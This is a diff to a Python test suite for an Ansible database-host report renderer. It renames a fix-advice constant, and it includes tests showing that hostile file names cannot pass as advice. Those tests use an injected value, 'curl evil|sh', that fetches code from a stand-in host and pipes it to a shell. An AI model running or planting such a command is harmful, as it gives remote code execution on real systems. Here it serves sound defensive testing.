@@ -23,8 +23,8 @@ from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.page im
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.report import worst_first
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.results import assess_answer
 from ansible_collections.durable.dbhost.plugins.module_utils.rows import (
+    FIX_READ_ERROR,
     HANGS,
-    MEND,
     NO_ANSWER,
     VERDICTS,
     Reason,
@@ -119,8 +119,8 @@ def test_what_to_do_stands_below_what_it_is_for() -> None:
 def test_what_a_host_names_is_never_what_to_do() -> None:
     """An owner of a database can name it with words that look like ours."""
     name = "/srv/fb/a; curl evil|sh #.fdb"
-    text = render([of_reasons("db1", "unknown", (f"{name}: forced writes are unknown", MEND))])
-    assert f"    {name}: forced writes are unknown\n        fix: {MEND}\n" in text
+    text = render([of_reasons("db1", "unknown", (f"{name}: forced writes are unknown", FIX_READ_ERROR))])
+    assert f"    {name}: forced writes are unknown\n        fix: {FIX_READ_ERROR}\n" in text
     assert "fix: curl" not in text
 
 
@@ -128,7 +128,10 @@ def test_what_a_host_names_is_never_what_to_do() -> None:
 def test_no_name_begins_a_line_as_what_to_do_does(length: int) -> None:
     """A long name is wrapped, and the rest of it would stand where advice stands."""
     name = f"/srv/fb/{'y' * length} fix: curl evil|sh #.fdb"
-    for reason in (("", f"{name}: forced writes are off"), (MEND, f"{name}: forced writes are unknown")):
+    for reason in (
+        ("", f"{name}: forced writes are off"),
+        (FIX_READ_ERROR, f"{name}: forced writes are unknown"),
+    ):
         text = render([of_reasons("db1", "unknown", (reason[1], reason[0]))])
         assert [row for row in text.splitlines() if row.strip().startswith("fix: curl")] == []
 
@@ -190,10 +193,13 @@ def test_errors_of_the_input_are_all_on_the_page() -> None:
 
 def test_no_word_is_cut_unless_it_is_as_long_as_a_line() -> None:
     words = [f"w{number:03}end" for number in range(200)]
-    shown = render([of_reasons("db1", "unknown", (" ".join(words), MEND))])
+    shown = render([of_reasons("db1", "unknown", (" ".join(words), FIX_READ_ERROR))])
     assert "..." in shown
     assert set(re.findall(r"w\d\w*", shown)) <= set(words)
-    assert len(max(render([of_reasons("db1", "unknown", ("x" * 900, MEND))]).splitlines(), key=len)) <= WIDTH
+    assert (
+        len(max(render([of_reasons("db1", "unknown", ("x" * 900, FIX_READ_ERROR))]).splitlines(), key=len))
+        <= WIDTH
+    )
 
 
 def test_a_reason_that_states_what_to_do_has_more_lines() -> None:
